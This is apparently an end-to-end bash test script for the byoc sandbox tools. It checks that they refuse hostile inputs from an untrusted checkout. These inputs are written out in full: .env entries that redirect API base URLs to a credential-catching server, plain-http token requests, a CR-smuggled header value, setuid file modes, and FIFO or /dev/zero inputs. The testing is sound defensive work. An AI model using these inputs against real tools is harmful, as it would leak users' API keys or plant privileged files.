#!/usr/bin/env bash
# Issue 16, the tools: what an untrusted checkout (the working directory: its .env, its
# Dockerfile, its inputs) or a server on the path can make a tool do. Every tool runs from that
# hostile directory against byoc-local; each check fails on the code before issue 16.
# The script runs in a network namespace of its own (unshare -n) where 192.0.2.1 (TEST-NET-1,
# on lo) stands for another machine reached over plain http; 127.0.0.1 is this machine.
if [ -z "${BYOC_HOSTILE_NETNS:-}" ]; then
	for u in "unshare -n" "unshare -rn"; do
		$u true 2>/dev/null && exec $u env BYOC_HOSTILE_NETNS=1 bash "$0" "$@"
	done
	echo "skip - no network namespace for this test (unshare -n)"; exit 0
fi
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/_seed_lib.sh"
CATCHERS=()
trap 'kill "${CATCHERS[@]}" 2>/dev/null; stop_local; rm -rf "$TEST_TMP"' EXIT
ip link set lo up && ip addr add 192.0.2.1/32 dev lo || { not_ok "192.0.2.1 on lo"; exit 1; }
OTHER=192.0.2.1

# catcher HOST NAME: a server asking for credentials (tests/e2e/_catcher.py) on HOST; sets
# CATCHER_URL; what it was sent is in $TEST_TMP/NAME.seen.
catcher() {
	local url=$TEST_TMP/$2.url i
	: >"$TEST_TMP/$2.seen"
	python3 "$BYOC_ROOT/tests/e2e/_catcher.py" "$1" "$TEST_TMP/$2.seen" >"$url" 2>/dev/null &
	CATCHERS+=($!)
	for i in $(seq 1 100); do [ -s "$url" ] && break; sleep 0.05; done
	CATCHER_URL=$(cat "$url")
}
check_eq() { if [ "$2" = "$3" ]; then ok "$1"; else not_ok "$1 (got '$2', want '$3')"; fi; }
# saw NAME: true when the catcher NAME was sent a credential.
saw() { [ -s "$TEST_TMP/$1.seen" ]; }

start_local --build-seconds 0 || { not_ok "byoc-local starts"; finish; exit 1; }
make_sandbox hostile && ok "sandbox started" || { not_ok "sandbox started"; finish; exit 1; }
needs_toolbox

H=$TEST_TMP/hostile
mkdir -p "$H"
cd "$H" || exit 1
ERR=$TEST_TMP/err

# ---- credentials over plain http ----------------------------------------------------------
catcher "$OTHER" git
GIT_TOKEN=ghp_HOSTILEtoken123 byoc byoc-seed repo hostile "$CATCHER_URL/app.git" --dest /home/daytona/app 2>"$ERR"
rc=$?
check_eq "GIT_TOKEN asked for by a plain-http host that is not this machine: exit 7" "$rc" 7
refute "... and the token was not sent" saw git
check "... the error names the URL and BYOC_ALLOW_HTTP_CREDENTIALS" \
	grep -q "$CATCHER_URL/app.git.*BYOC_ALLOW_HTTP_CREDENTIALS" "$ERR"
GIT_TOKEN=ghp_HOSTILEtoken123 BYOC_ALLOW_HTTP_CREDENTIALS=1 byoc byoc-seed repo hostile "$CATCHER_URL/app.git" \
	--dest /home/daytona/app 2>/dev/null
check "with BYOC_ALLOW_HTTP_CREDENTIALS=1 it is sent (the catcher sees it)" grep -q "Authorization: Basic" "$TEST_TMP/git.seen"
: >"$TEST_TMP/git.seen"
GIT_TOKEN=ghp_HOSTILEtoken123 byoc byoc-seed repo hostile "$CATCHER_URL/app.git" --remote --dest /home/daytona/app 2>"$ERR"
check_eq "repo --remote with a token to a plain-http host: refused (exit 2)" "$?" 2
DAYTONA_API_URL=http://$OTHER:9/api byoc byoc-sandbox list 2>"$ERR"
check_eq "DAYTONA_API_URL plain http to another machine: refused (exit 2)" "$?" 2

# ---- byoc-seed refuses before sending anything ------------------------------------------------
echo '#!/bin/sh' >"$TEST_TMP/tool.sh"
byoc byoc-seed file hostile "$TEST_TMP/tool.sh" /home/daytona/tool.sh --mode 4755 2>"$ERR"
check_eq "byoc-seed file --mode 4755: usage error" "$?" 2
check "... naming set-user-ID" grep -q "set-user-ID" "$ERR"
chmod 6755 "$TEST_TMP/tool.sh"
byoc byoc-seed file hostile "$TEST_TMP/tool.sh" /home/daytona/tool.sh >/dev/null 2>"$ERR"
check_eq "byoc-seed file of a set-id host file: seeded" "$?" 0
check_eq "... without its set-id bits" "$(sbx_exec 'stat -c %a /home/daytona/tool.sh')" 755
mkdir -p "$TEST_TMP/ds"; head -c 200000 /dev/urandom >"$TEST_TMP/ds/big.bin"
byoc byoc-seed data hostile "$TEST_TMP/ds/" --dest /etc 2>"$ERR"
check_eq "byoc-seed data --dest /etc: refused (exit 4)" "$?" 4
check "... naming --dest" grep -q -- "--dest '/etc'" "$ERR"
check_eq "... and nothing was left beside it" "$(sbx_exec 'ls -a / | grep -c byoc-seed')" 0
byoc byoc-seed file hostile "$TEST_TMP/ds/big.bin" /etc/big.bin 2>"$ERR"
check_eq "byoc-seed file to /etc/big.bin: refused (exit 4)" "$?" 4
check_eq "... and nothing was left in /etc" "$(sbx_exec 'ls -a /etc | grep -c byoc-seed')" 0

# ---- --json never carries environment values ------------------------------------------------
API_TOKEN=FAKEenvSECRET4242 byoc byoc-sandbox create --snapshot seed-base --name hostile-env --environment env_h \
	--env API_TOKEN --json >"$TEST_TMP/create.json" 2>"$ERR"
check_eq "byoc-sandbox create --env API_TOKEN" "$?" 0
byoc byoc-sandbox get hostile-env --json >"$TEST_TMP/get.json" 2>"$ERR"
check_eq "byoc-sandbox get --json" "$?" 0
refute "... carries no --env value" grep -q FAKEenvSECRET4242 "$TEST_TMP/get.json" "$TEST_TMP/create.json"
check "... but names the variable" grep -q '"API_TOKEN": "\[redacted\]"' "$TEST_TMP/get.json"
refute "byoc-sandbox list --json carries no --env value" sh -c "byoc_list=\$('$BINDIR/byoc-sandbox' list --json 2>/dev/null); echo \"\$byoc_list\" | grep -q FAKEenvSECRET4242"

# ---- .env: never an endpoint, read as dotenv tools read it, refused when unsafe ------------
catcher 127.0.0.1 anthropic
printf 'ANTHROPIC_BASE_URL=%s\n' "$CATCHER_URL" >.env
ANTHROPIC_API_KEY=sk-ant-FAKEhostile0000 timeout 60 "$BINDIR/byoc-handoff" hostile-env -e env_h --create-session \
	--agent agent_1 >/dev/null 2>"$ERR"
refute "ANTHROPIC_BASE_URL in .env: the Anthropic key is not sent where it says" saw anthropic
check "... and the tool says it ignored it" grep -q "ANTHROPIC_BASE_URL in .env.local or .env was ignored" "$ERR"
: >"$TEST_TMP/anthropic.seen"
printf 'DAYTONA_API_URL=%s/api\n' "$CATCHER_URL" >.env
byoc byoc-sandbox list >/dev/null 2>"$ERR"
refute "DAYTONA_API_URL in .env: the Daytona key is not sent where it says" saw anthropic

KEY=$DAYTONA_API_KEY
# dotenv KEY=VALUE text: the Daytona key comes from .env only (none in the process environment)
with_dotenv() { printf "$1" >.env; DAYTONA_API_KEY= timeout 20 "$BINDIR/byoc-sandbox" list >/dev/null 2>"$ERR"; }
with_dotenv "\xef\xbb\xbfDAYTONA_API_KEY=$KEY\n"
check_eq ".env with a UTF-8 byte order mark: read" "$?" 0
with_dotenv "DAYTONA_API_KEY=wrong-first\nDAYTONA_API_KEY=$KEY\n"
check_eq ".env with a key twice: the last value wins, as dotenv tools read it" "$?" 0
with_dotenv "DAYTONA_API_KEY=\"$KEY\" # the key\r\n"
check_eq ".env with a quoted value, a comment and CRLF: read" "$?" 0
with_dotenv "A=1\nDAYTONA_API_KEY=$KEY\rX-Injected: 1\n"
check_eq ".env with a bare CR in a value: refused (exit 2)" "$?" 2
check "... in one line naming the file and line" sh -c "[ \$(wc -l <'$ERR') = 1 ] && grep -q '^byoc-sandbox: .env:2: the value of DAYTONA_API_KEY holds a control character (0x0d)' '$ERR'"
head -c 2100000 /dev/zero | tr '\0' v | sed 's/^/BIG=/' >.env
DAYTONA_API_KEY= timeout 20 "$BINDIR/byoc-sandbox" list >/dev/null 2>"$ERR"
check_eq ".env with a 2 MB value: refused (exit 2)" "$?" 2
check "... naming the file and its cap, not 'out of memory'" grep -q "'.env' is larger than 1048576 bytes" "$ERR"
rm -f .env && mkfifo .env
timeout 20 "$BINDIR/byoc-sandbox" list >/dev/null 2>"$ERR"
check_eq ".env that is a FIFO: refused at once (exit 2), no hang" "$?" 2
check "... naming it" grep -q "'.env' is not a regular file" "$ERR"
rm -f .env

# ---- every input file with a cap, refused when not a regular file -------------------------
timeout 20 "$BINDIR/byoc-snapshot" name -f /dev/zero >/dev/null 2>"$ERR"
check_eq "byoc-snapshot name -f /dev/zero: refused at once (exit 2)" "$?" 2
mkfifo fifo
for c in name contexts; do
	timeout 20 "$BINDIR/byoc-snapshot" $c -f fifo >/dev/null 2>"$ERR"
	check_eq "byoc-snapshot $c -f FIFO: refused at once (exit 2)" "$?" 2
done
timeout 20 "$BINDIR/byoc-prepare" fifo >/dev/null 2>"$ERR"
check_eq "byoc-prepare FIFO (a recipe): refused at once (exit 2)" "$?" 2
timeout 20 "$BINDIR/byoc-seed" file hostile fifo /home/daytona/f >/dev/null 2>"$ERR"
check_eq "byoc-seed file FIFO: refused at once (exit 2)" "$?" 2
printf 'FROM debian:12\n' >Dockerfile; ln -s /dev/zero .dockerignore
timeout 20 "$BINDIR/byoc-snapshot" contexts -f Dockerfile >/dev/null 2>"$ERR"
check_eq "byoc-snapshot contexts with .dockerignore -> /dev/zero: refused at once (exit 2)" "$?" 2
rm -f fifo Dockerfile .dockerignore
{ printf 'FROM debian:12\nENV BIG='; head -c 200000 /dev/zero | tr '\0' x; echo; } >Dockerfile
timeout 60 "$BINDIR/byoc-snapshot" contexts -f Dockerfile >/dev/null 2>"$ERR"
check "a 200 kB ENV value: the error names the word limit, not 'out of memory'" \
	grep -q "line 2: a word expands to more than 65536 bytes, the limit of one Dockerfile word" "$ERR"
rm -f Dockerfile

finish
